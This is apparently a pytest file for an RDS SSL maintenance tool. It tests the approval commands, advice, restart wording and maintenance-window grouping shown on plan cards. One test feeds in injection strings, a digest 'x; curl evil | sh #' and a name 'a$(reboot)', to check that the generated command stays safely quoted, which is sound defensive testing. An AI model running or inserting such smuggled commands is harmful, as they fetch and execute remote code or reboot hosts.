"""What plans do, the command that lets each go, and which restart may come when."""

import shlex
from datetime import UTC, datetime
from typing import Any

import pytest

from rds_ssl.commands.page.items import Item
from rds_ssl.commands.page.restarts import IMPACTS, next_window, plan_cards, slots
from rds_ssl.core.model import Impact
from support import statuses

Json = dict[str, Any]

NOW = datetime(2026, 11, 24, 3, 0, tzinfo=UTC)
SATURDAY = {"schedule": "0 3 * * SAT", "duration": "2h", "timeZone": "Asia/Shanghai"}
SATURDAYS_OPENING = "2026-11-27T19:00:00Z"


def item(name: str, status: Json, **spec: object) -> Item:
    return Item.of(statuses.manifest(name, status, **spec))


def held(reason: str, digest: str = "1111222233334444", **fields: object) -> Json:
    return statuses.pending(statuses.plan(digest, heldBy=reason, **fields))


def test_a_plan_that_waits_for_approval_has_the_exact_command() -> None:
    (card,) = plan_cards([item("orders", statuses.pending(message="Because of Weakens."))], NOW)

    assert card.command == "rds-ssl approve -n shop orders --digest 1111222233334444"
    assert card.advice == "Approve it. Or undo the change."
    assert card.impacts == [
        ("Restart", IMPACTS[Impact.RESTART]),
        ("Weakens", IMPACTS[Impact.WEAKENS]),
    ]
    assert (card.restart, card.why) == ("", "Because of Weakens.")
    assert (card.start.at, card.start.words) == (None, "as soon as a person lets it go")


def test_why_it_waits_does_not_repeat_what_the_plan_is() -> None:
    made = statuses.plan()
    status = statuses.pending(made, message=f"{made['summary']} It waits for approval.")

    (card,) = plan_cards([item("orders", status)], NOW)

    assert card.why == "It waits for approval."


def test_a_command_leads_to_the_cluster_that_is_looked_at() -> None:
    flags = ["--kubeconfig", "/home/ann/my cluster", "--context", "prod"]

    (card,) = plan_cards([item("orders", statuses.pending())], NOW, flags)

    assert shlex.split(card.command)[2:6] == flags


def test_nothing_in_an_object_becomes_a_command_of_a_shell() -> None:
    digest = "x; curl evil | sh #"
    status = held("AwaitingApproval", digest)

    (card,) = plan_cards([item("a$(reboot)", status)], NOW)

    assert shlex.split(card.command) == [
        *("rds-ssl", "approve", "-n", "shop", "a$(reboot)", "--digest", digest)
    ]


@pytest.mark.parametrize(
    ("reason", "command", "advice"),
    [
        ("Suspended", "rds-ssl resume -n shop orders", "Resume it."),
        ("AwaitingWindow", "", "Its maintenance window, or spec.maintenance."),
        ("QuietPeriod", "", "It goes by itself when object and material have stood still."),
    ],
)
def test_what_no_approval_lets_go_has_no_approval(reason: str, command: str, advice: str) -> None:
    (card,) = plan_cards([item("orders", held(reason))], NOW)

    assert (card.command, card.advice) == (command, advice)


def test_an_approval_that_was_spent_is_not_offered_again() -> None:
    status = statuses.pending(
        lastApproval={"digest": "1111222233334444", "to": "d", "time": statuses.SINCE}
    )

    (card,) = plan_cards([item("orders", status)], NOW)

    assert card.command == ""


def test_plans_that_a_person_lets_go_come_first_then_the_oldest() -> None:
    items = [
        item("window", held("AwaitingWindow", since="2026-11-20T00:00:00Z")),
        item("young", held("AwaitingApproval", since="2026-11-23T00:00:00Z")),
        item("old", held("AwaitingApproval", since="2026-11-22T00:00:00Z")),
    ]

    assert [each.item.seen.name for each in plan_cards(items, NOW)] == ["old", "young", "window"]


def test_what_was_sent_is_a_restart_to_come_and_no_plan_that_waits() -> None:
    sent = item(
        "orders",
        statuses.pending(statuses.plan(heldBy=None), operation=statuses.operation()),
    )

    assert plan_cards([sent], NOW) == []
    assert [(each.start.words, each.restarts) for each in slots([sent], NOW)] == [
        ("under way already", 1)
    ]


def test_restarts_are_counted_by_the_window_in_which_they_come() -> None:
    windows = {"maintenance": {"windows": [SATURDAY]}}
    waits = held("AwaitingWindow", notBefore=SATURDAYS_OPENING)
    items = [
        item("a", waits, **windows),
        item("b", waits, **windows),
        item("c", held("AwaitingApproval")),
        item("d", held("AwaitingBudget", restart="None")),
    ]

    found = slots(items, NOW)

    assert [(each.restarts, each.window, each.start.words) for each in found] == [
        (2, "0 3 * * SAT Asia/Shanghai", ""),
        (1, "", "as soon as a person lets them go"),
    ]
    assert found[0].start.at is not None
    assert (found[0].start.at.iso, found[0].start.at.far) == (SATURDAYS_OPENING, "in 3d 16h")
    assert found[0].until is not None
    assert found[0].until.iso == "2026-11-27T20:45:00Z"
    assert [each.seen.name for each in found[0].items] == ["a", "b"]


def test_windows_that_open_at_one_time_and_close_at_others_are_told_apart() -> None:
    longer = {**SATURDAY, "duration": "4h"}
    waits = held("AwaitingWindow", notBefore=SATURDAYS_OPENING)

    found = slots(
        [
            item("a", waits, maintenance={"windows": [SATURDAY]}),
            item("b", waits, maintenance={"windows": [longer]}),
        ],
        NOW,
    )

    ends = sorted(each.until.iso for each in found if each.until)
    assert ends == ["2026-11-27T20:45:00Z", "2026-11-27T22:45:00Z"]


@pytest.mark.parametrize("schedule", ["0 3 30 2 *", "* * * * 9", "x y z"])
def test_a_schedule_that_cannot_be_read_or_never_comes_shows_no_window(schedule: str) -> None:
    bad = item(
        "a", held("AwaitingWindow"), maintenance={"windows": [{**SATURDAY, "schedule": schedule}]}
    )

    assert next_window(bad.maintenance, NOW) is None
    assert [each.until for each in slots([bad], NOW)] == [None]


def test_the_instances_own_window_is_named_and_its_time_is_for_rds_to_tell() -> None:
    own = item("a", held("AwaitingWindow"), maintenance={"useInstanceWindow": True})

    assert [each.window for each in slots([own], NOW)] == ["the instance's own maintenance time"]
    assert next_window(own.maintenance, NOW) is None


def test_each_impact_says_what_it_does() -> None:
    assert set(IMPACTS) == set(Impact)


def test_a_plan_that_waits_for_a_person_has_the_window_that_follows() -> None:
    status = held("AwaitingApproval", notBefore=SATURDAYS_OPENING)

    (card,) = plan_cards([item("orders", status)], NOW)

    # Of approval alone: with a time it waits for the window after it.
    assert card.start.at is not None
    assert card.start.at.iso == SATURDAYS_OPENING


@pytest.mark.parametrize(
    ("fields", "words"),
    [
        ({"restart": "None", "impacts": ["Weakens"]}, "no restart"),
        ({"restart": "Unknown"}, "may restart the database"),
        (
            {"steps": [{"changes": statuses.CHANGES}] * 2},
            "restarts the database, up to 2 times",
        ),
        ({"impacts": []}, "restarts the database"),
    ],
)
def test_a_plan_says_of_restarts_what_its_impacts_do_not(fields: Json, words: str) -> None:
    (card,) = plan_cards([item("orders", held("AwaitingApproval", **fields))], NOW)

    assert card.restart == words
